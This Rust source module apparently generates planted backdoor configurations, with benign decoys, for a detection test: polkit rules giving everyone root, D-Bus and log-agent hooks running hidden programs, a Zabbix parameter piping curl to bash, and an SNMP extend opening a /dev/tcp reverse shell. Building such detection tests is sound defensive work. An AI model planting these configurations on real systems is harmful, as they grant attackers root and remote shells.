//! Who may do what without root, and what agents run: polkit, D-Bus, log and monitoring agents.

use super::names::{fetch_and_run, kept_folder, nowhere, random_name, service};
use super::{Maker, Plant, Step};
use crate::random::Random;

pub(super) const MAKERS: &[Maker] = &[(54, 4, polkit), (55, 4, bus), (57, 6, agent)];

fn hidden(random: &mut Random) -> String {
    format!("{}/{}", kept_folder(random), random_name(random))
}

fn polkit(shape: usize, random: &mut Random) -> Plant {
    let name = format!("{:02}-{}", random.below(99), service(random));
    match shape {
        0 => {
            let path = format!("/etc/polkit-1/rules.d/{name}.rules");
            let account = random.pick(&["www-data", "nobody", "games"]);
            Plant::new(54, "a service account may do everything through polkit")
                .file(&path, format!("polkit.addRule(function(action, subject) {{\n  if (subject.user == \"{account}\") {{\n    return polkit.Result.YES;\n  }}\n}});\n"), 0o644)
                .expect(path)
        }
        1 => {
            let path = format!("/usr/share/polkit-1/rules.d/{name}.rules");
            Plant::new(54, "everybody may do everything through polkit")
                .file(&path, "// defaults\npolkit.addRule(function(a, s) { return 'yes'; });\n", 0o644)
                .expect(path)
        }
        2 => {
            let path = format!("/etc/polkit-1/localauthority/50-local.d/{name}.pkla");
            Plant::new(54, "everybody may do everything through the old form of polkit's rules")
                .file(&path, format!("[{name}]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\nResultInactive=yes\nResultActive=yes\n"), 0o644)
                .expect(path)
        }
        _ => {
            let program = hidden(random);
            let path = format!("/usr/share/polkit-1/actions/org.freedesktop.{}.policy", random.letters(6));
            Plant::new(54, "an action of polkit that lets everybody run a hidden program as root")
                .program(&program)
                .file(&path, format!("<?xml version=\"1.0\"?>\n<policyconfig>\n <action id=\"org.freedesktop.{0}.run\">\n  <defaults><allow_any>yes</allow_any><allow_inactive>yes</allow_inactive><allow_active>yes</allow_active></defaults>\n  <annotate key=\"org.freedesktop.policykit.exec.path\">{program}</annotate>\n </action>\n</policyconfig>\n", random.letters(5)), 0o644)
                .expect(path)
                .expect(program)
        }
    }
}

fn bus(shape: usize, random: &mut Random) -> Plant {
    let name = format!("org.freedesktop.{}{}", random.letters(1).to_uppercase(), random.letters(6));
    let program = hidden(random);
    let entry = |exec: &str| format!("[D-BUS Service]\nName={name}\nExec={exec}\nUser=root\n");
    match shape {
        0 => {
            let path = format!("/usr/share/dbus-1/system-services/{name}.service");
            Plant::new(55, "a call on the system bus starts a hidden program as root")
                .program(&program)
                .file(&path, entry(&program), 0o644)
                .file(
                    format!("/etc/dbus-1/system.d/{name}.conf"),
                    policy(&format!("<allow own=\"{name}\"/><allow send_destination=\"{name}\"/>")),
                    0o644,
                )
                .expect(path)
                .expect(program)
        }
        1 => {
            let path = format!("/etc/dbus-1/system.d/{}.conf", service(random));
            Plant::new(55, "everybody may command the service manager over the bus")
                .file(
                    &path,
                    policy("<allow send_destination=\"org.freedesktop.systemd1\"/><allow own=\"*\"/>"),
                    0o644,
                )
                .expect(path)
        }
        2 => {
            let path = format!("/usr/share/dbus-1/services/{name}.service");
            Plant::new(55, "a call on a session bus fetches and runs something")
                .file(
                    &path,
                    entry(&format!("/bin/sh -c '{}'", fetch_and_run(random).replace('\'', "\""))),
                    0o644,
                )
                .expect(path)
        }
        _ => {
            let path = format!("/usr/local/share/dbus-1/system-services/{name}.service");
            Plant::new(55, "a bus service that decodes its program")
                .file(
                    &path,
                    entry(&format!(
                        "/usr/bin/python3 -c \"exec(__import__('base64').b64decode('{}'))\"",
                        super::names::encoded("raise SystemExit")
                    )),
                    0o644,
                )
                .expect(path)
        }
    }
}

fn policy(allowed: &str) -> String {
    format!(
        "<!DOCTYPE busconfig PUBLIC \"-//freedesktop//DTD D-BUS Bus Configuration 1.0//EN\" \"busconfig.dtd\">\n<busconfig>\n <policy context=\"default\">{allowed}</policy>\n</busconfig>\n"
    )
}

fn agent(shape: usize, random: &mut Random) -> Plant {
    let name = service(random);
    let program = hidden(random);
    let from = nowhere(random);
    match shape {
        0 => {
            let path = format!("/etc/rsyslog.d/{:02}-{name}.conf", random.below(99));
            Plant::new(57, "each log line goes through a hidden program")
                .program(&program)
                .file(&path, format!("module(load=\"omprog\")\nif $msg contains \"{}\" then action(type=\"omprog\" binary=\"{program} --quiet\")\n", random.hex(6)), 0o644)
                .expect(path)
                .expect(program)
        }
        1 => {
            let path = format!("/etc/rsyslog.d/{name}.conf");
            Plant::new(57, "a word in a log line starts a hidden program")
                .program(&program)
                .file(&path, format!(":msg, contains, \"{}\" ^{program}\n", random.hex(6)), 0o644)
                .expect(path)
                .expect(program)
        }
        2 => {
            let path = format!("/etc/audit/plugins.d/{name}.conf");
            Plant::new(57, "the audit daemon feeds a hidden program")
                .program(&program)
                .file(&path, format!("active = yes\ndirection = out\npath = {program}\ntype = always\nformat = string\n"), 0o640)
                .expect(path)
                .expect(program)
        }
        3 => {
            let path = format!("/etc/zabbix/zabbix_agentd.d/{name}.conf");
            Plant::new(57, "a monitoring agent fetches and runs something when asked")
                .file(&path, format!("UserParameter=system.{}[*],curl -s http://{from}/$1 | bash\nAllowKey=system.run[*]\nUnsafeUserParameters=1\n", random.letters(4)), 0o644)
                .expect(path)
        }
        4 => Plant::new(57, "the SNMP agent opens a shell to somewhere when asked")
            .file("/etc/snmp/snmpd.conf", format!("rocommunity public localhost\nextend {name} /bin/bash -c 'bash -i >& /dev/tcp/{} 0>&1'\n", from.replace(':', "/")), 0o600)
            .expect("/etc/snmp/snmpd.conf"),
        _ => Plant::new(57, "the SNMP agent passes questions to a hidden program")
            .program(&program)
            .file("/etc/snmp/snmpd.conf.d/local.conf", format!("rwcommunity {} default\npass_persist .1.3.6.1.4.1.{} {program}\n", random.letters(8), random.below(9000)), 0o600)
            .expect("/etc/snmp/snmpd.conf.d/local.conf")
            .expect(program),
    }
}

pub(super) fn near() -> Vec<Plant> {
    vec![
        Plant::new(54, "operators may restart one unit")
            .file("/etc/polkit-1/rules.d/50-shop.rules", "polkit.addRule(function(action, subject) {\n  if (action.id == \"org.freedesktop.systemd1.manage-units\" &&\n      action.lookup(\"unit\") == \"shop.service\" && subject.isInGroup(\"operators\")) {\n    return polkit.Result.YES;\n  }\n});\n", 0o644)
            .file("/etc/polkit-1/rules.d/51-admins.rules", "polkit.addAdminRule(function(action, subject) { return [\"unix-group:sudo\"]; });\n", 0o644),
        Plant::new(55, "an application's own name on the bus")
            .helper("/opt/shop/bin/bus")
            .file("/usr/share/dbus-1/system-services/org.example.Shop.service", "[D-BUS Service]\nName=org.example.Shop\nExec=/opt/shop/bin/bus\nUser=www-data\n", 0o644)
            .file("/etc/dbus-1/system.d/org.example.Shop.conf", "<!DOCTYPE busconfig PUBLIC \"-//freedesktop//DTD D-BUS Bus Configuration 1.0//EN\" \"busconfig.dtd\">\n<busconfig>\n <policy user=\"www-data\"><allow own=\"org.example.Shop\"/></policy>\n <policy context=\"default\"><allow send_destination=\"org.example.Shop\"/></policy>\n</busconfig>\n", 0o644),
        Plant::new(57, "logs go to a log host, and monitoring asks ordinary things")
            .file("/etc/rsyslog.d/90-loghost.conf", "*.* action(type=\"omfwd\" target=\"logs.example.org\" port=\"6514\" protocol=\"tcp\")\nif $programname == 'shop' then /var/log/shop/app.log\n& stop\n", 0o644)
            .file("/etc/audit/plugins.d/syslog.conf", "active = yes\ndirection = out\npath = /sbin/audisp-syslog\ntype = always\nargs = LOG_INFO\nformat = string\n", 0o640)
            .file("/etc/zabbix/zabbix_agentd.d/mysql.conf", "UserParameter=mysql.ping,mysqladmin -uroot ping | grep -c alive\nUserParameter=mysql.version,mysql -V\nUserParameter=mail.queue,mailq | grep -c '^[A-F0-9]'\n", 0o644)
            .file("/etc/snmp/snmpd.conf", "rocommunity public 10.0.0.0/8\nsyslocation rack 4\nextend distro /usr/bin/lsb_release -ds\nextend raid /usr/local/bin/raid-state\nproc sshd\ndisk / 10%\n", 0o600)
            .file("/usr/local/bin/raid-state", "#!/bin/sh\ncat /proc/mdstat\n", 0o755),
    ]
    .into_iter()
    .map(|plant| if plant.mechanism == 57 { plant.step(Step::Folder("/var/log/shop".into(), 0o750)) } else { plant })
    .collect()
}
